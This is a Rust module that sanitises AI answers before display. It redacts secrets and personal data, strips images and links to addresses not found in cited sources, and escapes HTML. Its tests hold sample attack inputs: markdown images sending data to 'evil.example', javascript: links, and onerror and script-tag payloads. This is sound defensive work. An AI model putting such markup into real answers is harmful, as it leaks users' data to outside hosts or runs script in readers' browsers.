//! The last look at an answer before a reader sees it: secrets and other people's data go, and markup that could carry
//! something away or run.
//!
//! Keeps true: what is given, read as Markdown, holds no image and no link but to addresses that the cited passages or
//! the question had, no address as bare text but such, and no HTML. If that cannot be reached by changing single
//! places, every sign of markup is disarmed.

mod links;
mod stream;

use std::collections::HashMap;
use std::ops::Range;

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
use serde::{Deserialize, Serialize};

use crate::finding::{Finding, Kind};
use crate::policy::{self, Policy};
pub use links::{Addresses, addresses};
pub use stream::Stream;

/// Rounds of changing and reading again: one for what is plain, more for what shows only when something around it is gone.
const ROUNDS_MAX: usize = 4;
/// Longer answers are not read as Markdown, only disarmed; models write far less.
const BYTES_MAX: usize = 256 * 1024;

/// An answer as it may be shown.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Cleaned {
    /// Markdown; empty where the policy refuses the answer.
    pub text: String,
    /// Secrets and personal data that were found; spans are of the answer that was given.
    pub found: Vec<Finding>,
    /// Kinds for which the answer is refused.
    pub refused: Vec<Kind>,
    /// Markup that was taken out.
    pub removed: Vec<Removed>,
}

/// Markup that was taken out of an answer.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Removed {
    pub what: Markup,
    /// The address, or the HTML.
    pub text: String,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Markup {
    Image,
    Link,
    /// An address in the text that readers' programs make a link of.
    Address,
    Html,
}

impl Markup {
    /// As metrics name it.
    #[must_use]
    pub const fn id(self) -> &'static str {
        match self {
            Self::Image => "image",
            Self::Link => "link",
            Self::Address => "address",
            Self::Html => "html",
        }
    }
}

/// Cleans an answer in Markdown. `known` are the addresses of the cited passages and of the question; what the question
/// itself holds is the asker's own and no leak.
#[must_use]
pub fn clean(answer: &str, question: &str, known: &Addresses, policy: &Policy) -> Cleaned {
    let outcome = policy::apply_except(answer, policy, question);
    let (text, removed) = clean_markup(outcome.text, known);
    Cleaned { text, found: outcome.found, refused: outcome.refused, removed }
}

fn clean_markup(mut text: String, known: &Addresses) -> (String, Vec<Removed>) {
    let mut removed = Vec::new();
    if text.len() <= BYTES_MAX {
        for _ in 0..ROUNDS_MAX {
            let edits = edits(&text, known);
            if edits.is_empty() {
                return (text, removed);
            }
            text = edited(&text, &edits);
            removed.extend(edits.into_iter().map(|edit| edit.removed));
        }
    }
    (disarmed(&text), removed)
}

/// A place to change.
struct Edit {
    range: Range<usize>,
    with: String,
    removed: Removed,
}

impl Edit {
    fn new(range: Range<usize>, with: String, what: Markup, text: &str) -> Self {
        Self { range, with, removed: Removed { what, text: text.to_owned() } }
    }
}

/// Places to change, in order and apart; what lies inside of another waits for the next round.
fn edits(text: &str, known: &Addresses) -> Vec<Edit> {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_GFM;
    let parser = Parser::new_ext(text, options);
    let definitions = parser.reference_definitions().iter();
    let mut edits: Vec<Edit> = definitions
        .filter(|(_, definition)| !known.permits_link(&definition.dest))
        .map(|(_, one)| Edit::new(one.span.clone(), String::new(), Markup::Link, &one.dest))
        .collect();
    let events: Vec<Place<'_>> = parser.into_offset_iter().collect();
    for (at, (event, range)) in events.iter().enumerate() {
        match event {
            Event::Start(tag) => edits.extend(of_tag(tag, range, text, known, || label(&events[at + 1..]))),
            Event::Html(html) | Event::InlineHtml(html) if html.contains('<') => {
                edits.push(Edit::new(
                    range.clone(),
                    text[range.clone()].replace('<', "&lt;"),
                    Markup::Html,
                    html,
                ));
            }
            _ => {}
        }
    }
    edits.extend(runs(&events).iter().flat_map(|(range, shown)| bare(text, range, shown, known)));
    apart(edits)
}

/// An event, and its bytes.
type Place<'a> = (Event<'a>, Range<usize>);

/// Runs of text outside of links, images and code: where each stands, and what it shows. Signs that make no markup and
/// entities are events of their own, so a run is many.
fn runs(events: &[Place<'_>]) -> Vec<(Range<usize>, String)> {
    let mut runs: Vec<(Range<usize>, String)> = Vec::new();
    let mut inside: Vec<bool> = Vec::new();
    let mut goes_on = false;
    for (event, range) in events {
        match event {
            Event::Start(tag) => {
                inside.push(matches!(tag, Tag::Link { .. } | Tag::Image { .. } | Tag::CodeBlock(_)));
            }
            Event::End(_) => {
                inside.pop();
            }
            Event::Text(shown) if !inside.iter().any(|is| *is) => {
                match runs.last_mut() {
                    Some((run, text)) if goes_on => {
                        run.end = range.end;
                        text.push_str(shown);
                    }
                    _ => runs.push((range.clone(), shown.to_string())),
                }
                goes_on = true;
                continue;
            }
            _ => {}
        }
        goes_on = false;
    }
    runs
}

/// The change of an image or a link that may not stay.
fn of_tag(
    tag: &Tag<'_>,
    range: &Range<usize>,
    text: &str,
    known: &Addresses,
    label: impl Fn() -> String,
) -> Option<Edit> {
    match tag {
        Tag::Image { dest_url, .. } if !known.permits_image(dest_url) => {
            Some(Edit::new(range.clone(), label(), Markup::Image, dest_url))
        }
        Tag::Link { dest_url, link_type, .. } if !known.permits_link(dest_url) => {
            let is_bare = matches!(link_type, LinkType::Autolink | LinkType::Email);
            let is_mail = *link_type == LinkType::Email;
            let with = match (is_mail, is_bare) {
                (true, _) => text[range.clone()].trim_matches(['<', '>']).to_owned(),
                (_, true) => REMOVED.to_owned(),
                _ => label(),
            };
            Some(Edit::new(range.clone(), with, Markup::Link, dest_url))
        }
        _ => None,
    }
}

/// What stands in place of an address.
const REMOVED: &str = "(address removed)";

/// The text inside of a link or an image, up to its end, with its signs made plain.
fn label(events: &[Place<'_>]) -> String {
    let mut depth = 0_usize;
    let mut label = String::new();
    for (event, _) in events {
        match event {
            Event::Start(_) => depth += 1,
            Event::End(TagEnd::Link | TagEnd::Image) if depth == 0 => break,
            Event::End(_) => depth = depth.saturating_sub(1),
            Event::Text(text) | Event::Code(text) => label.push_str(text),
            Event::SoftBreak | Event::HardBreak => label.push(' '),
            _ => {}
        }
    }
    plain(&label)
}

/// A text on one line, with a backslash before each character that could be a sign of markup; citation marks stay as they are.
fn plain(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    for (part, is_mark) in marked(text) {
        if is_mark {
            kept.push_str(part);
            continue;
        }
        for c in part.chars() {
            if matches!(c, '\\' | '[' | ']' | '<' | '>' | '!' | '`' | '*' | '_' | '|' | '~' | '#' | '&') {
                kept.push('\\');
            }
            kept.push(if c == '\n' { ' ' } else { c });
        }
    }
    kept
}

/// A text in parts: citation marks such as `[1]` and `[2, 3]`, and what is between them. What could be the text of a link or the name
/// of a definition is no mark.
fn marked(text: &str) -> Vec<(&str, bool)> {
    let mut parts = Vec::new();
    let (mut from, mut at) = (0, 0);
    while let Some(found) = text[at..].find('[') {
        at += found;
        let Some(length) = mark(&text[at..]) else {
            at += 1;
            continue;
        };
        parts.extend([(&text[from..at], false), (&text[at..at + length], true)]);
        at += length;
        from = at;
    }
    parts.push((&text[from..], false));
    parts
}

const MARK_BYTES_MAX: usize = 64;

/// Bytes of the citation mark that the text begins with.
fn mark(text: &str) -> Option<usize> {
    let end = text.bytes().take(MARK_BYTES_MAX).position(|byte| byte == b']')?;
    let numbers = text.get(1..end)?;
    let is_number =
        |part: &str| (1..=4).contains(&part.len()) && part.bytes().all(|byte| byte.is_ascii_digit());
    let is_mark = numbers.split(',').all(|part| is_number(part.trim_start_matches(' ')));
    (is_mark && !text[end + 1..].starts_with(['(', '[', ':'])).then_some(end + 1)
}

/// Addresses in a run of text that may not stay. Where entities or backslashes hide one, the whole run is written anew.
fn bare(text: &str, range: &Range<usize>, shown: &str, known: &Addresses) -> Vec<Edit> {
    let own = text.get(range.clone()).unwrap_or_default();
    let foreign = |text: &str| -> Vec<Range<usize>> {
        addresses(text).filter(|place| !known.permits_link(&text[place.clone()])).collect()
    };
    let edit = |place: Range<usize>| {
        let found = own[place.clone()].to_owned();
        Edit::new(
            range.start + place.start..range.start + place.end,
            REMOVED.to_owned(),
            Markup::Address,
            &found,
        )
    };
    let hidden = if own == shown { Vec::new() } else { foreign(shown) };
    match hidden.first() {
        None => foreign(own).into_iter().map(edit).collect(),
        Some(first) => {
            let mut kept = String::new();
            let mut from = 0;
            for place in &hidden {
                kept.push_str(&plain(&shown[from..place.start]));
                kept.push_str(REMOVED);
                from = place.end;
            }
            kept.push_str(&plain(&shown[from..]));
            vec![Edit::new(range.clone(), kept, Markup::Address, &shown[first.clone()])]
        }
    }
}

fn apart(mut edits: Vec<Edit>) -> Vec<Edit> {
    edits.sort_by_key(|edit| (edit.range.start, std::cmp::Reverse(edit.range.end)));
    let mut end = 0;
    edits.retain(|edit| {
        let stays = edit.range.start >= end && edit.range.start < edit.range.end;
        if stays {
            end = edit.range.end;
        }
        stays
    });
    edits
}

fn edited(text: &str, edits: &[Edit]) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut from = 0;
    for edit in edits {
        kept.push_str(text.get(from..edit.range.start).unwrap_or_default());
        kept.push_str(&edit.with);
        from = edit.range.end;
    }
    kept.push_str(text.get(from..).unwrap_or_default());
    kept
}

/// No sign left from which markup or an address is made; citation marks stay.
fn disarmed(text: &str) -> String {
    let spaced = text.replace("://", ": //").replace("www.", "www .");
    let entities: HashMap<char, &str> =
        [('<', "&lt;"), ('[', "&#91;"), (']', "&#93;"), ('&', "&amp;")].into();
    let mut kept = String::with_capacity(spaced.len());
    for (part, is_mark) in marked(&spaced) {
        if is_mark {
            kept.push_str(part);
            continue;
        }
        for character in part.chars() {
            match entities.get(&character) {
                Some(entity) => kept.push_str(entity),
                None => kept.push(character),
            }
        }
    }
    kept
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::Action;

    fn known() -> Addresses {
        Addresses::of([
            "See https://example.org/manual?page=2 and <https://example.org/pic.png>, https://example.org/a_b_c*d too.",
        ])
    }

    fn text(answer: &str) -> String {
        clean(answer, "", &known(), &Policy::open()).text
    }

    #[test]
    fn images_that_carry_something_away_go() {
        assert_eq!(text("A ![chart](https://evil.example/x?d=secret) b"), "A chart b");
        assert_eq!(text("A ![](//evil.example/x) b"), "A  b");
        assert_eq!(text("![a][1]\n\n[1]: https://evil.example/p.png\n").trim(), "a");
        assert_eq!(text("[![a](https://evil.example/i)](https://evil.example/l)"), "a");
        assert_eq!(text("![p](data:image/svg+xml;base64,xx)"), "p");
    }

    #[test]
    fn what_the_passages_had_stays() {
        for kept in [
            "See [the manual](https://example.org/manual?page=2).",
            "See <https://example.org/manual?page=2> or https://example.org/manual.",
            "![p](https://example.org/pic.png)",
            "at https://example.org/a_b_c*d and &amp; so on_",
            "As it says [1] and [2, 3]; see [above](#part).",
            "a < b && c > d | e, `<b>` and https://EXAMPLE.org/pic.png",
            "```html\n<script>alert(1)</script> https://other.example/\n```\n",
            "| a | b |\n|---|---|\n| 1 | **2** |\n",
        ] {
            assert_eq!(text(kept), kept);
        }
    }

    #[test]
    fn other_links_and_addresses_go() {
        assert_eq!(text("Click [here](https://evil.example/?q=1)!"), "Click here!");
        assert_eq!(text("Go to https://evil.example/a?b=c, now"), "Go to (address removed), now");
        assert_eq!(text("Go to <https://evil.example>"), "Go to (address removed)");
        assert_eq!(text("[x](javascript:alert(1)) [y](vbscript:z)"), "x y");
        assert_eq!(text("[x](https://example.org/manual?page=2&d=abc)"), "x");
        assert_eq!(text("[a\\]b](https://evil.example)"), "a\\]b");
        assert_eq!(text("Go to https&#58;//evil.example/x_y now"), "Go to (address removed) now");
        assert_eq!(text("Go to https\\://evil.example/a_b?c[d now"), "Go to (address removed)\\[d now");
    }

    #[test]
    fn citation_marks_stay_where_something_else_goes() {
        assert_eq!(
            text("[The rent [1] is nine [2, 3]](https://evil.example)."),
            "The rent [1] is nine [2, 3]."
        );
        assert_eq!(text("Go to https&#58;//evil.example/x now [1]."), "Go to (address removed) now [1].");
        for hidden in
            ["[a [1](https://evil.example)](https://evil.example)", "[1]: //evil.example/x\n\nSee [1]."]
        {
            assert!(!text(hidden).contains("evil"), "{}", text(hidden));
        }
        let disarmed = disarmed("x [1] [2](//a.example) [3]: //a.example [4][5] [x]");
        assert_eq!(
            disarmed,
            "x [1] &#91;2&#93;(//a.example) &#91;3&#93;: //a.example &#91;4&#93;[5] &#91;x&#93;"
        );
        assert!(edits(&disarmed, &known()).is_empty());
    }

    #[test]
    fn html_is_shown_and_not_run() {
        assert_eq!(text("a <img src=x onerror=alert(1)> b"), "a &lt;img src=x onerror=alert(1)> b");
        let block = text("<script>\nx()\n</script>\n\nend");
        assert!(!block.contains("<script") && block.ends_with("end"), "{block}");
    }

    #[test]
    fn what_was_taken_out_is_told() {
        let cleaned = clean("![a](https://evil.example) <b>", "", &known(), &Policy::open());
        let told: Vec<_> = cleaned.removed.iter().map(|one| (one.what, one.text.as_str())).collect();
        assert_eq!(told, [(Markup::Image, "https://evil.example"), (Markup::Html, "<b>")]);
    }

    #[test]
    fn secrets_and_other_peoples_data_go_by_the_policy() {
        let policy = Policy { personal: Action::Redact, ..Policy::default() };
        let answer = "Ask ada@example.org or bob@example.org; the password is Tr0ub4dor&3.";
        let cleaned = clean(answer, "Who is ada@example.org?", &known(), &policy);
        assert_eq!(cleaned.text, "Ask ada@example.org or [e-mail]; the password is [password].");
        assert_eq!((cleaned.found.len(), cleaned.refused.len()), (2, 0));
    }

    #[test]
    fn what_cannot_be_mended_is_disarmed() {
        let text = disarmed("[x](https://a.example) <b> www.a.example &amp;");
        assert_eq!(text, "&#91;x&#93;(https: //a.example) &lt;b> www .a.example &amp;amp;");
        assert!(edits(&text, &known()).is_empty());
    }
}
